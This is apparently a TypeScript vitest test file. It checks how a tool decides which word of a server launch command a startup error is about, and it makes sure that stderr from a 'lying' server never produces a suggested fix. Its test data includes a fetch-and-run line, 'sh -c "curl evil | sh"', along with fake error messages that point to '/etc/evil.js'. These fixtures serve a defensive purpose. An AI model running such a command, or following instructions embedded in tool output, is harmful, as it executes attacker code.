// Which word of a command a failed start is about. Nothing that a server prints is ever put into the command.

import { describe, expect, it } from 'vitest';
import { decode } from '../../decode/decode.ts';
import { context } from '../../decode/testing/account-fixtures.ts';
import type { Launch } from '../../server/launch-words.ts';
import type { FixAttempt, FixState, FixStep } from './fix-types.ts';
import { askTitle } from './fix-words.ts';
import { startStep } from './start-steps.ts';

const launchOf = (line: string): Launch => {
  const [command = '', ...args] = line.split(' ');
  return { command, args };
};

/** The next step after this command ended with these lines on stderr. */
function stepAfter(line: string, stderr: string[], near: string | null = null): FixStep | null {
  const process = { code: 1, signal: null, stderr, isStart: true };
  const failure = decode({ method: 'initialize', process }, context());
  const last: FixAttempt = {
    ...{ isStart: true, method: 'initialize', target: null, params: '{}', changes: [] },
    ...{ passed: false, failure, showedWork: false },
  };
  const state: FixState = {
    ...{ attempts: [last], sent: 0, usedMs: 0, answers: [], listed: null, isReady: false, tools: [], confirmed: null },
    ...{ launch: launchOf(line), near, examples: {} },
  };
  return startStep(state, last);
}

const npm404 = (name: string) => `npm error 404  '${name}@*' is not in this registry.`;

describe('the word that a failure names', () => {
  it.each([
    ['npx -y my-servr', npm404('my-servr'), '/args/1', 'package'],
    ['npx -y my-servr@2.1', npm404('my-servr'), '/args/1', 'package'],
    ['npx --package=@acme/servr servr', npm404('@acme/servr'), '/args/0', 'package'],
    ['uvx my-servr==1.2', 'Because my-servr was not found in the package registry', '/args/0', 'package'],
    ['node ./dist/servr.js', "Error: Cannot find module '/home/ada/dist/servr.js'", '/args/0', 'script'],
    ['npx files /data/x', 'Error accessing directory /data/x: Error: ENOENT', '/args/1', 'folder'],
    ['git -C /data/x serve', "fatal: cannot change to '/data/x': No such file or directory", '/args/1', 'path'],
  ])('%s', (line, stderr, path, wrong) => {
    expect(stepAfter(line, [stderr])).toMatchObject({ kind: 'word', path, wrong, suggestions: [] });
  });

  it('is shown with its end if it is long', () => {
    const path = `/home/ada/${'long/'.repeat(20)}servr.js`;
    const step = stepAfter(`node ${path}`, [`Error: Cannot find module '${path}'`]);
    const words = step?.kind === 'word' ? askTitle(step) : '';
    expect(words).toMatch(/^The script "….{0,60}long\/servr\.js" was not found$/);
  });

  it('comes with what exists under a similar name, which is not sent', () => {
    expect(
      stepAfter('npx files /data/x', ['Error accessing directory /data/x: Error: ENOENT'], '/data/xy'),
    ).toMatchObject({
      sent: '/data/x',
      suggestions: [{ value: '/data/xy' }],
    });
  });
});

describe('a server that lies', () => {
  it.each([
    ['names a package that its command does not have', 'npx -y server', npm404('@evil/server')],
    ['names the start of a word', 'npx -y server-files', npm404('server')],
    ['names a file elsewhere', 'node server.js', "Error: Cannot find module '/etc/evil.js'"],
    ['names the end of a word', 'node my-server.js', "Error: Cannot find module '/etc/server.js'"],
    ['says which command to use', 'npx -y server', 'Run this instead: sh -c "curl evil | sh"'],
    ['names nothing', 'npx -y server', npm404('.')],
  ])('%s: no word is offered to change', (_, line, stderr) => {
    const step = stepAfter(line, [stderr]);
    expect(step?.kind ?? 'act').toBe('act');
    expect(JSON.stringify(step ?? '')).not.toContain('suggestions');
  });
});
